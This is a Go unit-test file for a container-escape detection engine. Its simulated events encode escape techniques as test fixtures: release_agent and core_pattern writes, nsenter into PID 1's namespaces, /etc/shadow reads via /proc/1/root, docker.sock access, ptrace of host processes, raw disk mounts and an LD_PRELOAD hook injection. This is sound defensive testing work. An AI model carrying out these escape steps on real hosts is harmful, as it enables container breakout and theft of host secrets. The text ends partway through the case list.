package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/kestrel-sec/kestrel/internal/event"
)

// ruleCase is one shape: the events, and whether rule fires on them.
type ruleCase struct {
	name string
	rule string
	evs  func() []*event.Event
	fire bool
	sev  event.Severity // checked when fire and non-zero
}

func evs(e ...*event.Event) []*event.Event { return e }

func TestRules(t *testing.T) {
	infer := func(s string) *event.Container { return ctr("simctr-infer-" + s) }
	side := func(s string) *event.Container { return ctr("simctr-sidecar-" + s) }
	runcA := an(400, "/tmp/h/bin/runc")
	hookNS := event.Namespaces{Mnt: hostNS.Mnt, PID: hostNS.PID, Net: ctrNS.Net, User: hostNS.User,
		UTS: hostNS.UTS, IPC: hostNS.IPC, Cgroup: hostNS.Cgroup}
	nvctk := func() pb {
		return proc(500, "/tmp/h/bin/nvidia-ctk", "nvidia-ctk", "hook", "enable-cuda-compat").ns(hookNS).
			anc(runcA, an(1, "/sbin/init"))
	}
	kthreadd := an(2, "[kthreadd]")
	cases := []ruleCase{
		// ESC-001
		{"A1 release_agent write", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(10, "/bin/sh"), infer("a1"), "/tmp/h/cg/release_agent", "", wr, 3))
		}, true, event.SevCritical},
		{"A1 notify_on_release raw path", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(10, "/bin/sh"), infer("a1"), "/tmp/h/cg/x/notify_on_release", "x/notify_on_release", event.OWronly, 3))
		}, true, 0},
		{"failed release_agent attempt", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(10, "/bin/sh"), infer("a1"), "/sys/fs/cgroup/rdma/release_agent", "", wr, -13))
		}, true, 0},
		{"rename onto release_agent", "ESC-001", func() []*event.Event {
			return evs(sysEv(proc(10, "/bin/mv"), infer("a1"), event.Syscall{Name: "rename", Path: "/tmp/x", Path2: "/cg/release_agent"}))
		}, true, 0},
		{"host writes release_agent", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(1, "/usr/lib/systemd/systemd").ns(hostNS), nil, "/sys/fs/cgroup/systemd/release_agent", "", wr, 3))
		}, false, 0},
		{"container reads release_agent", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(10, "/bin/cat"), infer("a1"), "/cg/release_agent", "", rd, 3))
		}, false, 0},
		{"B4 log rotation", "ESC-001", func() []*event.Event {
			return evs(openEv(proc(10, "/usr/bin/python3"), infer("b4"), "/tmp/h/logs/app/server.log.1", "", wr, 3))
		}, false, 0},

		// ESC-002
		{"A2 core_pattern write", "ESC-002", func() []*event.Event {
			return evs(openEv(proc(11, "/bin/sh"), infer("a2"), "/proc/sys/kernel/core_pattern", "", wr, 1))
		}, true, event.SevCritical},
		{"core_pattern via host mount", "ESC-002", func() []*event.Event {
			return evs(openEv(proc(11, "/bin/sh"), infer("a2"), "/host/proc/sys/kernel/core_pattern", "", wr, 1))
		}, true, 0},
		{"binfmt_misc register", "ESC-002", func() []*event.Event {
			return evs(openEv(proc(11, "/bin/sh"), infer("a2"), "/proc/sys/fs/binfmt_misc/register", "", event.OWronly, 1))
		}, true, 0},
		{"host restores core_pattern", "ESC-002", func() []*event.Event {
			return evs(openEv(proc(11, "/bin/bash").ns(hostNS), nil, "/proc/sys/kernel/core_pattern", "", wr, 1))
		}, false, 0},
		{"container reads core_pattern", "ESC-002", func() []*event.Event {
			return evs(openEv(proc(11, "/bin/cat"), infer("a2"), "/proc/sys/kernel/core_pattern", "", rd, 1))
		}, false, 0},

		// ESC-003
		{"A1 release_agent payload", "ESC-003", func() []*event.Event {
			return evs(execEv(proc(900, "/usr/bin/dash", "/bin/sh", "/tmp/h/ra_payload.sh").ns(hostNS).anc(kthreadd), nil))
		}, true, event.SevCritical},
		{"A2 core helper with %P", "ESC-003", func() []*event.Event {
			return evs(execEv(proc(901, "/usr/bin/dash", "/bin/sh", "/tmp/h/cp_payload.sh", "1234", "sh").ns(hostNS).anc(kthreadd), nil))
		}, true, 0},
		{"kworker parent", "ESC-003", func() []*event.Event {
			b := proc(902, "/tmp/evil").ns(hostNS).anc(event.Ancestor{PID: 77, Comm: "kworker/u8:2"})
			return evs(execEv(b, nil))
		}, true, 0},
		{"modprobe helper allowlisted", "ESC-003", func() []*event.Event {
			return evs(execEv(proc(903, "/usr/sbin/modprobe", "/sbin/modprobe", "-q", "--", "fs-cgroup").ns(hostNS).anc(kthreadd), nil))
		}, false, 0},
		{"apport script allowlisted", "ESC-003", func() []*event.Event {
			return evs(execEv(proc(904, "/usr/bin/python3.12", "/usr/bin/python3", "/usr/share/apport/apport", "-p1").ns(hostNS).anc(kthreadd), nil))
		}, false, 0},
		{"non-root child of kthreadd", "ESC-003", func() []*event.Event {
			return evs(execEv(proc(905, "/tmp/x").ns(hostNS).uid(1000).anc(kthreadd), nil))
		}, false, 0},
		{"A6 hook is no kernel helper", "ESC-003", func() []*event.Event {
			return evs(execEv(nvctk(), infer("a6")))
		}, false, 0},

		// ESC-004
		{"A3 nsenter -t 1", "ESC-004", func() []*event.Event {
			return evs(execEv(proc(20, "/usr/bin/nsenter", "nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh").ns(hostPIDNS), infer("a3")))
		}, true, event.SevCritical},
		{"hostPID nsenter -t of a host process", "ESC-004", func() []*event.Event {
			return evs(execEv(proc(3000, "/usr/sbin/sshd").ns(hostNS), nil),
				execEv(proc(20, "/usr/bin/nsenter", "nsenter", "-t", "3000", "-m", "sh").ns(hostPIDNS), infer("a3")))
		}, true, 0},
		{"hostPID nsenter -t of a process of its own container", "ESC-004", func() []*event.Event {
			c := infer("a3")
			return evs(execEv(proc(3000, "/bin/sleep").ns(hostPIDNS), c),
				execEv(proc(20, "/usr/bin/nsenter", "nsenter", "-t", "3000", "-m", "sh").ns(hostPIDNS), c))
		}, false, 0},
		{"nsenter --mount=/proc/1/ns/mnt", "ESC-004", func() []*event.Event {
			return evs(execEv(proc(20, "/usr/bin/nsenter", "nsenter", "--mount=/proc/1/ns/mnt", "sh"), infer("a3")))
		}, true, 0},
		{"A3 denied /proc/1/ns/ipc", "ESC-004", func() []*event.Event {
			return evs(openEv(proc(20, "/usr/bin/nsenter").ns(hostPIDNS), infer("a3"), "/proc/1/ns/ipc", "", rd, -13))
		}, true, 0},
		{"resolved host nsfs", "ESC-004", func() []*event.Event {
			return evs(openEv(proc(20, "/usr/bin/nsenter"), infer("a3"), "net:[4026531840]", "/proc/42/ns/net", rd, 3))
		}, true, 0},
		{"A6 hook opens /proc/1/ns/net", "ESC-004", func() []*event.Event {
			return evs(openEv(nvctk(), infer("a6"), "/proc/1/ns/net", "", rd, -13))
		}, true, 0},
		{"setns into host net", "ESC-004", func() []*event.Event {
			return evs(sysEv(proc(20, "/x"), infer("a6"), event.Syscall{Name: "setns", Fd: 3, Flags: 0x40000000, NSInode: hostNS.Net}))
		}, true, 0},
		{"exec in host mnt ns under the container cgroup", "ESC-004", func() []*event.Event {
			c := infer("a3")
			return evs(execEv(proc(20, "/bin/sh"), c), execEv(proc(21, "/bin/sh").ns(hostPIDNS).ns(hostNS), c))
		}, true, 0},
		{"A4 /proc/1/root is no namespace change", "ESC-004", func() []*event.Event {
			c := side("a4")
			return evs(execEv(proc(30, "/bin/sh").ns(hostPIDNS), c),
				openEv(proc(31, "/bin/cat").ns(hostPIDNS), c, "/etc/hostname", "/proc/1/root/etc/hostname", rd, 3))
		}, false, 0},
		{"B3 host probe joins the container", "ESC-004", func() []*event.Event {
			c := infer("b1")
			return evs(execEv(proc(40, "/usr/bin/python3"), c),
				openEv(proc(41, "/usr/bin/nsenter").ns(hostNS), nil, "net:[4026532103]", "/proc/40/ns/net", rd, 3),
				openEv(proc(41, "/usr/bin/nsenter").ns(hostNS), nil, "/proc/40/ns/mnt", "", rd, 4),
				execEv(proc(41, "/bin/sh", "sh", "-c", "curl -fsS -m 2 http://127.0.0.1:8000/health > /dev/null").anc(an(41, "/usr/bin/nsenter"), runcA), c))
		}, false, 0},
		{"variant V38: setns on a pidfd into mnt+net from a container", "ESC-004", func() []*event.Event {
			return evs(sysEv(proc(21, "/usr/bin/python3.11"), infer("v38"), event.Syscall{Name: "setns", Fd: 3, Flags: 0x00020000 | 0x40000000}))
		}, true, event.SevHigh},
		{"setns on a pidfd by a host process", "ESC-004", func() []*event.Event {
			return evs(sysEv(proc(21, "/usr/bin/nsenter").ns(hostNS), nil, event.Syscall{Name: "setns", Fd: 3, Flags: 0x00020000}))
		}, false, 0},
		{"setns on a pidfd into uts/ipc only", "ESC-004", func() []*event.Event {
			return evs(sysEv(proc(21, "/usr/bin/nsenter"), infer("x"), event.Syscall{Name: "setns", Fd: 3, Flags: 0x04000000 | 0x08000000}))
		}, false, 0},
		{"setns on a bad fd", "ESC-004", func() []*event.Event {
			return evs(sysEv(proc(21, "/usr/bin/nsenter"), infer("x"), event.Syscall{Name: "setns", Fd: 99, Flags: 0x00020000, Ret: -9}))
		}, false, 0},
		{"own ns file", "ESC-004", func() []*event.Event {
			return evs(openEv(proc(20, "/bin/ls"), infer("x"), "net:[4026532103]", "/proc/self/ns/net", rd, 3))
		}, false, 0},
		{"own pid-1 ns in own pid namespace", "ESC-004", func() []*event.Event {
			return evs(openEv(proc(20, "/bin/ls"), infer("x"), "mnt:[4026532101]", "/proc/1/ns/mnt", rd, 3))
		}, false, 0},
		{"hostNetwork container already in host net", "ESC-004", func() []*event.Event {
			n := ctrNS
			n.Net = hostNS.Net
			return evs(openEv(proc(20, "/bin/ip").ns(n), infer("x"), "net:[4026531840]", "/proc/1/ns/net", rd, 3))
		}, false, 0},

		// ESC-005
		{"A4 /proc/1/root/etc/hostname", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(31, "/bin/cat").ns(hostPIDNS), side("a4"), "/etc/hostname", "/proc/1/root/etc/hostname", rd, 3))
		}, true, event.SevHigh},
		{"A4 /proc/1/root/etc/shadow", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(31, "/usr/bin/head").ns(hostPIDNS), side("a4"), "/etc/shadow", "/proc/1/root/etc/shadow", rd, 3))
		}, true, event.SevCritical},
		{"hostPath /host/etc/shadow", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(31, "/bin/cat"), side("x"), "/host/etc/shadow", "", rd, 3))
		}, true, event.SevCritical},
		{"own pid namespace /proc/1/root", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(31, "/bin/cat"), side("x"), "/etc/hostname", "/proc/1/root/etc/hostname", rd, 3))
		}, false, 0},
		{"A12 environ and mem are not host fs", "ESC-005", func() []*event.Event {
			c := side("a12")
			return evs(openEv(proc(50, "/usr/bin/python3").ns(hostPIDNS), c, "/proc/4242/environ", "", rd, 3),
				openEv(proc(50, "/usr/bin/python3").ns(hostPIDNS), c, "/proc/4242/mem", "", rd, 4))
		}, false, 0},
		{"variant V07: tar -C /proc/2/root opens the host root as the base of relative opens", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(32, "/usr/bin/tar", "tar", "-C", "/proc/2/root", "-cf", "-", "etc/hostname").ns(hostPIDNS), side("v07"), "/", "/proc/2/root", rd|event.ODirectry, 3))
		}, true, event.SevHigh},
		{"fchdir base /proc/<pid>/cwd of a host process", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(32, "/usr/bin/python3").ns(hostPIDNS), side("x"), "/", "/proc/2/cwd", rd|event.ODirectry, 3))
		}, true, event.SevHigh},
		{"/proc/self/root directory", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(32, "/usr/bin/find").ns(hostPIDNS), side("x"), "/", "/proc/self/root", rd|event.ODirectry, 3))
		}, false, 0},
		{"/proc/<pid>/root directory of the container's own process", "ESC-005", func() []*event.Event {
			c := side("x")
			return evs(execEv(proc(77, "/bin/sleep").ns(hostPIDNS), c),
				openEv(proc(78, "/usr/bin/tar").ns(hostPIDNS), c, "/", "/proc/77/root", rd|event.ODirectry, 3))
		}, false, 0},
		{"/proc/self/root", "ESC-005", func() []*event.Event {
			return evs(openEv(proc(31, "/bin/cat").ns(hostPIDNS), side("x"), "/etc/passwd", "/proc/self/root/etc/passwd", rd, 3))
		}, false, 0},
		{"/proc/<pid>/root of a process of the same container", "ESC-005", func() []*event.Event {
			c := side("x")
			return evs(execEv(proc(77, "/bin/sleep").ns(hostPIDNS), c),
				openEv(proc(78, "/bin/cat").ns(hostPIDNS), c, "/etc/passwd", "/proc/77/root/etc/passwd", rd, 3))
		}, false, 0},
		{"chroot into /proc/1/root of the host from a hostPID container", "ESC-005", func() []*event.Event {
			return evs(sysEv(proc(33, "/usr/sbin/chroot", "chroot", "/proc/1/root", "sh").ns(hostPIDNS), side("x"),
				event.Syscall{Name: "chroot", Path: "//proc/./1/root/"}))
		}, true, 0},
		{"chroot by a relative path, refused", "ESC-005", func() []*event.Event {
			return evs(sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS).cwd("/"), side("x"),
				event.Syscall{Name: "chroot", Path: "proc/1/root", Ret: -1}))
		}, true, 0},
		{"chroot into the container's own process root", "ESC-005", func() []*event.Event {
			c := side("x")
			return evs(execEv(proc(77, "/bin/sleep").ns(hostPIDNS), c),
				sysEv(proc(33, "/usr/sbin/chroot").ns(hostPIDNS), c, event.Syscall{Name: "chroot", Path: "/proc/77/root"}))
		}, false, 0},
		{"open_tree clone of a host process's root from a hostPID container", "ESC-005", func() []*event.Event {
			return evs(execEv(proc(4000, "/usr/sbin/sshd").ns(hostNS), nil),
				sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS), side("x"),
					event.Syscall{Name: "open_tree", Fd: atFDCWD, Path: "/proc/4000/root/", Flags: openTreeClone | 0x8000, Ret: -22}))
		}, true, event.SevCritical},
		{"open_tree clone by a path relative to the cwd", "ESC-005", func() []*event.Event {
			return evs(sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS).cwd("/proc"), side("x"),
				event.Syscall{Name: "open_tree", Fd: atFDCWD, Path: "1/root", Flags: openTreeClone}))
		}, true, 0},
		{"open_tree of /proc/1/root without OPEN_TREE_CLONE (a path fd, no copy)", "ESC-005", func() []*event.Event {
			return evs(sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS), side("x"),
				event.Syscall{Name: "open_tree", Fd: atFDCWD, Path: "/proc/1/root", Flags: 0x80000}))
		}, false, 0},
		{"open_tree clone of the container's own process root and of a data dir", "ESC-005", func() []*event.Event {
			c := side("x")
			return evs(execEv(proc(77, "/bin/sleep").ns(hostPIDNS), c),
				sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS), c, event.Syscall{Name: "open_tree", Fd: atFDCWD, Path: "/proc/77/root", Flags: openTreeClone}),
				sysEv(proc(33, "/usr/bin/python3").ns(hostPIDNS), c, event.Syscall{Name: "open_tree", Fd: atFDCWD, Path: "/data", Flags: openTreeClone}))
		}, false, 0},
		{"chroot into a build root", "ESC-005", func() []*event.Event {
			return evs(sysEv(proc(33, "/usr/sbin/chroot").ns(hostPIDNS), side("x"), event.Syscall{Name: "chroot", Path: "/srv/buildroot"}))
		}, false, 0},

		// ESC-011
		{"ptrace ATTACH of a host process from a hostPID container", "ESC-011", func() []*event.Event {
			host := proc(4000, "/usr/sbin/sshd").ns(hostNS)
			return evs(execEv(host, nil),
				sysEv(proc(34, "/usr/bin/python3").ns(hostPIDNS), side("x"), event.Syscall{Name: "ptrace", Flags: 16, Target: 4000}))
		}, true, event.SevCritical},
		{"POKEDATA refused by yama still counts", "ESC-011", func() []*event.Event {
			return evs(execEv(proc(4000, "/usr/sbin/sshd").ns(hostNS), nil),
				sysEv(proc(34, "/usr/bin/gdb").ns(hostPIDNS), side("x"), event.Syscall{Name: "ptrace", Flags: 5, Target: 4000, Ret: -1}))
		}, true, event.SevCritical},
		{"process_vm_writev into another container's process", "ESC-011", func() []*event.Event {
			return evs(execEv(proc(4001, "/usr/bin/python3").ns(hostPIDNS), infer("y")),
				sysEv(proc(34, "/usr/bin/python3").ns(hostPIDNS), side("x"), event.Syscall{Name: "process_vm_writev", Target: 4001}))
		}, true, event.SevCritical},
		{"/proc/<hostpid>/mem opened for writing", "ESC-011", func() []*event.Event {
			return evs(execEv(proc(4000, "/usr/sbin/sshd").ns(hostNS), nil),
				openEv(proc(34, "/usr/bin/python3").ns(hostPIDNS), side("x"), "/proc/4000/mem", "", rdw, 3))
		}, true, event.SevCritical},
		{"target never seen and no ProcView: high, unresolved", "ESC-011", func() []*event.Event {
			return evs(sysEv(proc(34, "/usr/bin/python3").ns(hostPIDNS), side("x"), event.Syscall{Name: "ptrace", Flags: 0x4206, Target: 4100}))
		}, true, event.SevHigh},
		{"ptrace of a process of its own container", "ESC-011", func() []*event.Event {
			c := side("x")
			return evs(execEv(proc(4002, "/bin/sleep").ns(hostPIDNS), c),
				sysEv(proc(34, "/usr/bin/gdb").ns(hostPIDNS), c, event.Syscall{Name: "ptrace", Flags: 16, Target: 4002}))
		}, false, 0},
		{"ptrace inside its own PID namespace", "ESC-011", func() []*event.Event {
			return evs(sysEv(proc(34, "/usr/bin/gdb"), side("x"), event.Syscall{Name: "ptrace", Flags: 16, Target: 1}))
		}, false, 0},
		{"PTRACE_TRACEME is no attack on another process", "ESC-011", func() []*event.Event {
			return evs(sysEv(proc(34, "/usr/bin/strace").ns(hostPIDNS), side("x"), event.Syscall{Name: "ptrace", Flags: 0, Target: 0}))
		}, false, 0},

		// ESC-006
		{"A5 docker.sock connect", "ESC-006", func() []*event.Event {
			return evs(unixEv(proc(60, "/usr/bin/curl"), infer("a5"), "/run/simrt/docker.sock"))
		}, true, event.SevCritical},
		{"A5 crictl exec", "ESC-006", func() []*event.Event {
			return evs(execEv(proc(61, "/tmp/h/bin/crictl", "/tmp/h/bin/crictl", "--runtime-endpoint", "unix:///run/simrt/containerd/containerd.sock", "ps"), infer("a5")))
		}, true, 0},
		{"A5 curl --unix-socket", "ESC-006", func() []*event.Event {
			return evs(execEv(proc(62, "/usr/bin/curl", "curl", "-s", "--unix-socket", "/run/simrt/docker.sock", "http://localhost/containers/json"), infer("a5")))
		}, true, 0},
		{"A5 kubelet port", "ESC-006", func() []*event.Event {
			return evs(connEv(proc(63, "/usr/bin/curl"), infer("a5"), "10.200.1.1", 10250, event.ClassNode))
		}, true, 0},
		{"A7 docker.sock through the library mount", "ESC-006", func() []*event.Event {
			return evs(unixEv(proc(64, "/usr/bin/curl"), infer("a7"), "/host-run/simrt/docker.sock"))
		}, true, 0},
		{"persistenced socket is info", "ESC-006", func() []*event.Event {
			return evs(unixEv(proc(64, "/usr/bin/x"), infer("a7"), "/run/nvidia-persistenced/socket"))
		}, true, event.SevInfo},
		{"other unix socket", "ESC-006", func() []*event.Event {
			return evs(unixEv(proc(64, "/usr/bin/x"), infer("x"), "/run/nscd/socket"))
		}, false, 0},
		{"host uses docker.sock", "ESC-006", func() []*event.Event {
			return evs(unixEv(proc(64, "/usr/bin/docker").ns(hostNS), nil, "/run/docker.sock"))
		}, false, 0},
		{"external port 10250", "ESC-006", func() []*event.Event {
			return evs(connEv(proc(63, "/usr/bin/curl"), infer("x"), "10.200.2.2", 10250, event.ClassExternal))
		}, false, 0},

		// ESC-007
		{"A1 mount -t cgroup", "ESC-007", func() []*event.Event {
			return evs(execEv(proc(12, "/usr/bin/mount", "mount", "-t", "cgroup", "-o", "none,name=ebpfh", "cgroup", "/tmp/h/cg"), infer("a1")))
		}, true, event.SevCritical},
		{"runtime mounts proc for the container", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(12, "/usr/bin/unshare"), infer("x"), event.Syscall{Name: "mount", Path: "proc", Path2: "/proc", Arg: "proc"}),
				sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "mount", Path: "cgroup", Path2: "/sys/fs/cgroup", Arg: "cgroup2"}))
		}, false, 0},
		{"runtime binary mounts a cgroup elsewhere", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "mount", Path: "cgroup", Path2: "/tmp/cg", Arg: "cgroup"}))
		}, true, 0},
		{"block device open", "ESC-007", func() []*event.Event {
			return evs(openEv(proc(12, "/usr/bin/dd"), infer("x"), "/dev/sda", "", rd, 3))
		}, true, 0},
		{"/proc/kcore", "ESC-007", func() []*event.Event {
			return evs(openEv(proc(12, "/usr/bin/cat"), infer("x"), "/proc/kcore", "", rd, -1))
		}, true, 0},
		{"mount syscall of proc", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(12, "/x"), infer("x"), event.Syscall{Name: "mount", Path: "proc", Path2: "/mnt", Arg: "proc"}))
		}, true, 0},
		{"mknod of a block device under an innocuous name, then its mount", "ESC-007", func() []*event.Event {
			c := infer("x")
			sh := proc(14, "/usr/bin/python3").cwd("/tmp")
			return evs(sysEv(sh, c, event.Syscall{Name: "mknod", Path: "cache.img", Flags: sIFBLK | 0o600, Arg2: 8<<8 | 1}),
				sysEv(sh, c, event.Syscall{Name: "mount", Path: "/tmp/./cache.img", Path2: "/mnt", Arg: "squashfs"}))
		}, true, event.SevCritical},
		{"mount of a disk filesystem from a loop file", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/python3"), infer("x"), event.Syscall{Name: "mount", Path: "/tmp/x", Path2: "/mnt", Arg: "ext4", Ret: -1}))
		}, true, event.SevCritical},
		{"mknod of /dev/mem by numbers, refused", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/mknod"), infer("x"), event.Syscall{Name: "mknod", Path: "m", Flags: sIFCHR | 0o600, Arg2: 1<<8 | 1, Ret: -1}))
		}, true, event.SevCritical},
		{"mknod of /dev/null and a fifo", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/mknod"), infer("x"), event.Syscall{Name: "mknod", Path: "/dev/null", Flags: sIFCHR | 0o666, Arg2: 1<<8 | 3}),
				sysEv(proc(14, "/usr/bin/mkfifo"), infer("x"), event.Syscall{Name: "mknod", Path: "/tmp/f", Flags: 0o010000 | 0o600}))
		}, false, 0},
		{"A7 rbind is not a device mount", "ESC-007", func() []*event.Event {
			return evs(execEv(proc(12, "/usr/bin/mount", "mount", "--rbind", "/bin", "/tmp/h/rootfs0132/bin"), infer("a7")))
		}, false, 0},
		{"A12 tmpfs mount", "ESC-007", func() []*event.Event {
			return evs(execEv(proc(12, "/usr/bin/mount", "mount", "-t", "tmpfs", "tmpfs", "/run"), side("a12")))
		}, false, 0},
		{"new mount API: fsopen of a disk filesystem, refused", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/python3"), infer("x"), event.Syscall{Name: "fsopen", Arg: "ext4", Ret: -1}))
		}, true, event.SevCritical},
		{"new mount API: fsopen of sysfs", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/python3"), infer("x"), event.Syscall{Name: "fsopen", Arg: "sysfs", Flags: 1, Ret: 3}))
		}, true, event.SevCritical},
		{"new mount API: fsconfig source a raw device", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(14, "/usr/bin/python3"), infer("x"), event.Syscall{Name: "fsconfig", Fd: 3, Flags: fsconfigSetString,
				Arg: "source", Path: "/dev/nvme0n1p1", Ret: -19}))
		}, true, event.SevCritical},
		{"new mount API: fsopen of tmpfs with a named source", "ESC-007", func() []*event.Event {
			sh := proc(14, "/usr/bin/python3")
			return evs(sysEv(sh, infer("x"), event.Syscall{Name: "fsopen", Arg: "tmpfs", Flags: 1, Ret: 3}),
				sysEv(sh, infer("x"), event.Syscall{Name: "fsconfig", Fd: 3, Flags: fsconfigSetString, Arg: "source", Path: "scratch"}),
				sysEv(sh, infer("x"), event.Syscall{Name: "fsconfig", Fd: 3, Flags: fsconfigSetString, Arg: "size", Path: "/dev/sda"}),
				sysEv(sh, infer("x"), event.Syscall{Name: "fsconfig", Fd: 3, Flags: 5, Arg: "source"}))
		}, false, 0},
		{"new mount API: the runtime's own fsopen of proc and cgroup2 in the container's cgroup", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "fsopen", Arg: "proc", Flags: 1, Ret: 3}),
				sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "fsopen", Arg: "cgroup2", Flags: 1, Ret: 4}),
				sysEv(proc(12, "/usr/bin/unshare"), infer("x"), event.Syscall{Name: "fsopen", Arg: "sysfs", Ret: 3}))
		}, false, 0},
		{"new mount API: the runtime's fsopen of a disk filesystem is not setup", "ESC-007", func() []*event.Event {
			return evs(sysEv(proc(13, "/usr/sbin/runc"), infer("x"), event.Syscall{Name: "fsopen", Arg: "xfs", Ret: 3}))
		}, true, 0},
		{"GPU device is not a raw disk", "ESC-007", func() []*event.Event {
			return evs(openEv(proc(12, "/x"), infer("x"), "/dev/nvidia0", "", rdw, 3), openEv(proc(12, "/x"), infer("x"), "/dev/null", "", rdw, 3))
		}, false, 0},

		// ESC-008
		{"A3 modprobe dummy", "ESC-008", func() []*event.Event {
			return evs(execEv(proc(22, "/usr/bin/kmod", "modprobe", "dummy"), infer("a3")))
		}, true, event.SevCritical},
		{"finit_module", "ESC-008", func() []*event.Event {
			return evs(sysEv(proc(22, "/usr/bin/kmod"), infer("a3"), event.Syscall{Name: "finit_module", Fd: 3}))
		}, true, 0},
		{"bpf prog load", "ESC-008", func() []*event.Event {
			return evs(sysEv(proc(22, "/x"), infer("x"), event.Syscall{Name: "bpf", Flags: 5}))
		}, true, 0},
		{"ko open with CAP_SYS_MODULE", "ESC-008", func() []*event.Event {
			return evs(openEv(proc(22, "/x"), infer("x"), "/lib/modules/6.18/kernel/drivers/net/dummy.ko.zst", "", rd, 3))
		}, true, 0},
		{"modprobe dry run", "ESC-008", func() []*event.Event {
			return evs(execEv(proc(22, "/usr/bin/kmod", "modprobe", "-n", "dummy"), infer("x")))
		}, false, 0},
		{"bpf map create", "ESC-008", func() []*event.Event {
			return evs(sysEv(proc(22, "/x"), infer("x"), event.Syscall{Name: "bpf", Flags: 0}))
		}, false, 0},
		{"host nvidia-modprobe", "ESC-008", func() []*event.Event {
			return evs(execEv(proc(22, "/usr/bin/kmod", "modprobe", "nvidia-uvm").ns(hostNS), nil))
		}, false, 0},
		{"ko open without the capability", "ESC-008", func() []*event.Event {
			return evs(openEv(proc(22, "/x").caps(0), infer("x"), "/lib/modules/x/dummy.ko", "", rd, 3))
		}, false, 0},

		// ESC-009
		{"A5 write-open of /proc/self/exe", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(65, "/bin/sh"), infer("a5"), "/usr/bin/dash", "/proc/self/exe", wr, -26))
		}, true, event.SevCritical},
		{"host overwrite of runc", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(66, "/usr/bin/cp").ns(hostNS), nil, "/usr/sbin/runc", "", wr, 3))
		}, true, 0},
		{"leaked fd cwd", "ESC-009", func() []*event.Event {
			return evs(execEv(proc(67, "/bin/sh").cwd("/proc/self/fd/7"), infer("x")))
		}, true, 0},
		{"leaked fd path", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(67, "/bin/cat"), infer("x"), "/etc/shadow", "/proc/self/fd/7/../../../etc/shadow", rd, 3))
		}, true, 0},
		{"dpkg upgrades runc", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(66, "/usr/bin/dpkg").ns(hostNS), nil, "/usr/sbin/runc", "", wr, 3))
		}, false, 0},
		{"A6 setup copies a stand-in hook", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(66, "/usr/bin/cp").ns(hostNS), nil, "/tmp/h/bin/nvidia-ctk", "", wr, 3))
		}, false, 0},
		{"reading /proc/self/exe", "ESC-009", func() []*event.Event {
			return evs(openEv(proc(66, "/bin/sh"), infer("x"), "/usr/bin/dash", "/proc/self/exe", rd, 3))
		}, false, 0},

		// ESC-010
		{"privileged inference container posture", "ESC-010", func() []*event.Event {
			return evs(execEv(proc(70, "/bin/sh"), infer("a1")))
		}, true, event.SevLow},
		{"hostPID sidecar posture", "ESC-010", func() []*event.Event {
			return evs(execEv(proc(70, "/bin/sh").caps(0).ns(hostPIDNS), side("a4")))
		}, true, event.SevInfo},
		{"unshare -U -r", "ESC-010", func() []*event.Event {
			c := infer("x")
			return evs(execEv(proc(70, "/bin/sh").caps(0), c), execEv(proc(71, "/usr/bin/unshare", "unshare", "-U", "-r", "sh").caps(0), c))
		}, true, event.SevMedium},
		{"unshare(CLONE_NEWUSER) without CAP_SYS_ADMIN", "ESC-010", func() []*event.Event {
			return evs(sysEv(proc(71, "/x").caps(0), infer("x"), event.Syscall{Name: "unshare", Flags: cloneNewUser}))
		}, true, event.SevMedium},
		{"unprivileged container start", "ESC-010", func() []*event.Event {
			return evs(execEv(proc(70, "/bin/sh").caps(0), infer("x")))
		}, false, 0},
		{"unshare with CAP_SYS_ADMIN", "ESC-010", func() []*event.Event {
			return evs(sysEv(proc(71, "/x"), infer("x"), event.Syscall{Name: "unshare", Flags: cloneNewNS}))
		}, false, 0},

		// NVT-001
		{"A6 hook with LD_PRELOAD", "NVT-001", func() []*event.Event {
			return evs(execEv(nvctk().env("LD_PRELOAD", "/proc/self/cwd/evil.so").env("NVIDIA_VISIBLE_DEVICES", "all"), infer("a6")))
		}, true, event.SevCritical},
		{"hook with LD_LIBRARY_PATH in tmp", "NVT-001", func() []*event.Event {
			return evs(execEv(nvctk().env("LD_LIBRARY_PATH", "/tmp/x"), nil))
		}, true, event.SevCritical},
		{"hook with image variables only", "NVT-001", func() []*event.Event {
			return evs(execEv(nvctk().env("NVIDIA_VISIBLE_DEVICES", "all"), nil))
		}, true, event.SevInfo},
		{"hook with host library path", "NVT-001", func() []*event.Event {
			return evs(execEv(nvctk().env("LD_LIBRARY_PATH", "/usr/lib/x86_64-linux-gnu:/usr/local/nvidia/lib64"), nil))
		}, false, 0},
